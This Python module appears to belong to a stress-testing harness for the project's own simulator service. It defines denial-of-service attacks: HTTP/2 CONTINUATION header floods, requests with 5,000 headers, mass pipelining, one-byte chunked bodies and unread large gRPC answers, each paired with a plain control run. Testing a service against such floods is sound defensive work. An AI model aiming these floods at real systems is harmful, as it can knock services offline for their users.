"""Attacks on memory or the event loop: much from few bytes, bytes in many pieces, unread answers."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable
from functools import partial

from podesta.v1 import simulator_pb2 as sim

from .attacker import Attacker, flood
from .flooding import FLOODING
from .http2 import CONTINUATION, begun, frame, greeting, message, packed
from .world import ATTACKER, keyed

MOST = 64
"""Connections of an attack."""
_APPLY = "/podesta.v1.Simulator/Apply"


async def raw(by: Attacker, address: tuple[str, int], sent: bytes, seconds: float, stay: bool = False) -> None:
    """Send bytes on a new connection, and count how the answer begins; it may stay open, unread."""
    until = time.monotonic() + seconds
    try:
        reader, writer = await asyncio.open_connection(*address, local_addr=(ATTACKER, 0))
        writer.write(sent)
        by.sent += len(sent)
        await asyncio.wait_for(writer.drain(), max(until - time.monotonic(), 0.1))
        found = await asyncio.wait_for(reader.read(12), max(until - time.monotonic(), 0.1))
        by.answers[found[9:12].decode("latin-1") if found.startswith(b"HTTP/") else "no answer"] += 1
        await asyncio.sleep(max(until - time.monotonic(), 0) if stay else 0)
        writer.close()
    except (TimeoutError, OSError):
        by.answers["no answer"] += 1


def head(method: str, path: str, more: str = "") -> bytes:
    """A request's first lines, without their end."""
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{more}".encode()


async def plain(by: Attacker, seconds: float, budget: int) -> None:
    """The control: as many bytes of plain calls, on as many connections."""
    path, until = f"/v1/games/{by.world.innocent}", time.monotonic() + seconds
    request = head("GET", path) + b"\r\n"

    async def ask() -> None:
        reader, writer = await asyncio.open_connection(*by.world.address, local_addr=(ATTACKER, 0))
        while by.sent < budget and time.monotonic() < until:
            by.sent += len(request)
            writer.write(request)
            found = await reader.readuntil(b"\r\n\r\n")
            lengths = [line for line in found.lower().split(b"\r\n") if line.startswith(b"content-length:")]
            await reader.readexactly(int(lengths[0].partition(b":")[2]) if lengths else 0)
            by.answers[found[9:12].decode()] += 1
        writer.close()

    await asyncio.gather(*(ask() for _ in range(MOST)), return_exceptions=True)


async def _large(by: Attacker) -> sim.ApplyRequest:
    """A small request with a large answer: 1,000 lines, each with every detail."""
    asked = sim.DeterminizeRequest(game=by.world.innocent, count=1, seed=1)
    tables = sim.DeterminizeResponse.FromString(await by.simulate("Determinize", asked)).positions
    return sim.ApplyRequest(positions=tables, lines=[sim.Line(index=0)] * 1_000, view=0, scores=True)


async def large_answers(by: Attacker, seconds: float) -> None:
    """Sixty simultaneous calls with large answers."""
    request = await _large(by)
    await flood(60, seconds, partial(by.simulate, "Apply", request))


async def unread_answers(by: Attacker, seconds: float) -> None:
    """Sixteen connections that request large answers, and read none of them."""
    raw_request, numbers = (await _large(by)).SerializeToString(), range(1, 33, 2)
    who = [("x-forwarded-for", ATTACKER)]
    sent = greeting(0) + b"".join(begun(number, _APPLY, who) + message(number, raw_request) for number in numbers)
    await asyncio.gather(*(raw(by, by.world.grpc_address, sent, seconds) for _ in range(16)))


async def endless_headers(by: Attacker, seconds: float) -> None:
    """gRPC heads without an end."""
    more = frame(CONTINUATION, 0, 1, packed([("a", "b" * 100)] * 150)[:16_000])
    first = greeting(65_535) + begun(1, _APPLY, end=False)

    async def again() -> None:
        await raw(by, by.world.grpc_address, first + more * 64, seconds)

    await flood(MOST, seconds, again)


async def many_headers(by: Attacker, seconds: float) -> None:
    """Requests with 5,000 headers."""
    sent = head("GET", "/v1/rulesets", "".join(f"a{n}: b\r\n" for n in range(5_000))) + b"\r\n"
    await flood(MOST, seconds, partial(raw, by, by.world.address, sent, seconds))


async def pipelined(by: Attacker, seconds: float) -> None:
    """Thousands of requests on a connection, before any answer is read."""
    sent = (head("GET", "/problems") + b"\r\n") * 2_000
    await asyncio.gather(*(raw(by, by.world.address, sent, seconds, stay=True) for _ in range(MOST)))


async def reconnecting(by: Attacker, seconds: float) -> None:
    """The same, and a new connection as soon as the first answer has begun."""
    sent = (head("GET", "/problems") + b"\r\n") * 2_000
    await flood(MOST, seconds, partial(raw, by, by.world.address, sent, seconds))


async def other_spellings(by: Attacker, seconds: float) -> None:
    """Calls with another spelling of their path."""
    path = f"{by.world.rest}//v1/games/{by.world.long_games[0]}/events"
    await flood(32, seconds, partial(by.rest, "GET", path))


async def tiny_chunks(by: Attacker, seconds: float) -> None:
    """Twenty connections with bodies in chunks of one byte."""
    chunked = head("POST", "/v1/games", "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    sent = chunked + b"1\r\n \r\n" * 60_000 + b"0\r\n\r\n"
    await flood(20, seconds, partial(raw, by, by.world.address, sent, seconds))


async def previews(by: Attacker, seconds: float) -> None:
    """Sixty previews at once."""
    game, token = by.world.running, by.world.running_tokens[0]
    for token in by.world.running_tokens:
        shown = (await by.http.get(f"/v1/games/{game}", headers=keyed(token))).json()
        if asked := shown.get("questions"):
            break
    answer = {"question": asked[0]["kind"], "option": asked[0]["options"][0]["word"]} if asked else {}
    ask = partial(by.rest, "POST", f"/v1/games/{game}/preview", json={"answers": [answer]}, headers=keyed(token))
    await flood(60, seconds, ask)


async def metrics(by: Attacker, seconds: float) -> None:
    """Sixty callers that request metrics."""
    await flood(60, seconds, partial(by.rest, "GET", "/metrics"))


STALLING: dict[str, Callable[[Attacker, float], Awaitable[None]]] = {
    "large answers, 60 at once": large_answers,
    "answers that nobody reads": unread_answers,
    "5,000 headers": many_headers,
    "2,000 requests a connection": pipelined,
    "2,000 requests, reconnecting": reconnecting,
    "//v1": other_spellings,
    "chunks of one byte": tiny_chunks,
    "previews, 60 at once": previews,
    "/metrics, 60 at once": metrics,
}
"""These attacks by name."""
ON_THE_CORE: dict[str, Callable[[Attacker, float], Awaitable[None]]] = {
    "heads of gRPC without end": endless_headers,
    **FLOODING,
}
"""Attacks on gRPC's core, which its settings do not bound: made behind a front door (`--front`), which must."""
